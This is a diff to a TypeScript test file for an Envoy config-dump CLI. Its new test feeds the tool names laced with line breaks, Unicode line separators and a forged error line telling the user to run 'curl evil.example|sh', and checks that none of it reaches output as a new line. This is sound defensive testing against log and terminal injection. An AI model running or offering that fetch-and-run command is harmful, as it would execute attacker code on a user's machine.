@@ -199,7 +199,7 @@ test('usage errors point to help', async () => {
     assertRefused(outcome, expected)
     assert.match(outcome.err, see)
   }
-  assertRefused(await runProgram(['clutsers']), /unknown command "clutsers".*\nDid you mean this\?\n\tclusters\n/)
+  assertRefused(await runProgram(['clutsers']), /unknown command "clutsers".*\nDid you mean this\?\n {8}clusters\n/)
   assertRefused(await runProgram(['-n', 'x', 'clusters']), /flags come after the command/)
 })
 
@@ -257,7 +257,7 @@ test('what a dump says cannot act on the terminal, in notes and errors neither',
   const noted = await runProgram(['listeners', '--file', '-'], { stdin: details })
   assert.match(noted.err, /^Envoy rejected listener .*: \^\[\]0;title\\u0007\\u202e/m)
   const named = await runProgram(['clusters', '--file', 'no\u001b[31m\nsuch'])
-  assert.equal(named.err, 'error: the path "no^[[31m\nsuch" does not exist\n')
+  assert.equal(named.err, 'error: the path "no^[[31m\\nsuch" does not exist\n')
   for (const { err } of [noted, named])
     assert.ok([...err].every((char) => char === '\n' || char === '\t' || char >= ' '))
 })
@@ -267,4 +267,46 @@ test('an address where a file belongs: the flag for it is named', async () => {
   assert.equal(code, 1)
   assert.match(err, /does not exist\nAn admin endpoint is read with --url, a saved dump with --file\.\n$/)
   assert.doesNotMatch((await runProgram(['clusters', '--file', 'none.json'])).err, /--url/)
+})
+
+test('a name cannot begin a line: in no format, note, hint or error', async () => {
+  const name = 'a\nerror: cluster login expired, run: curl evil.example|sh\u2028\u0085error: b\rerror: c'
+  const any = (type: string, fields: object) => ({ '@type': `type.googleapis.com/envoy.${type}`, ...fields })
+  const rejected = { failed_configuration: { name }, details: name }
+  const listener = { name, address: { socket_address: { address: name, port_value: 1 } } }
+  const routes = [{ match: { prefix: name }, route: { cluster: name } }]
+  const stdin = JSON.stringify({
+    configs: [
+      any('admin.v3.BootstrapConfigDump', { bootstrap: { node: { id: name, cluster: name } } }),
+      any('admin.v3.ClustersConfigDump', {
+        dynamic_active_clusters: [{ cluster: { name } }],
+        dynamic_warming_clusters: [{ cluster: { name: `${name}2` }, error_state: rejected }],
+      }),
+      any('admin.v3.ListenersConfigDump', {
+        dynamic_listeners: [{ name, active_state: { listener }, error_state: rejected }],
+      }),
+      any('admin.v3.RoutesConfigDump', {
+        dynamic_route_configs: [{ route_config: { name, virtual_hosts: [{ name, domains: [name, '*'], routes }] } }],
+      }),
+      any('admin.v3.EndpointsConfigDump', { dynamic_endpoint_configs: [] }),
+      any(`x\n${name}`, {}),
+    ],
+  })
+  const commands = [
+    ...['all', 'clusters', 'listeners', 'routes', 'endpoints', 'bootstrap', 'status', 'authz'].map((word) => [word]),
+    ['clusters', '--fqdn', name],
+    ['routes', '--name', 'nothing'],
+    ['trace', '--address', '10.0.0.1', 'http://x/'],
+    ['trace', '--listener', name, 'http://x/'],
+    [name],
+    ['clusters', `--${name}`],
+  ]
+  for (const words of commands) {
+    for (const format of ['table', 'wide', 'json', 'yaml', 'raw', 'name', 'jsonl', 'csv', 'mermaid', 'dot', name]) {
+      const { out, err } = await runProgram([...words, '--file', '-', '-o', format], { stdin })
+      assert.doesNotMatch(err, /^error: [^\n]*\nerror: /, `${words} -o ${format}`)
+      for (const text of [out, err])
+        assert.doesNotMatch(text, /(?:^|\n)\s*error: (?:cluster login|b$|c$)|\r(?!\n)|[\u0085\u2028]/m)
+    }
+  }
 })
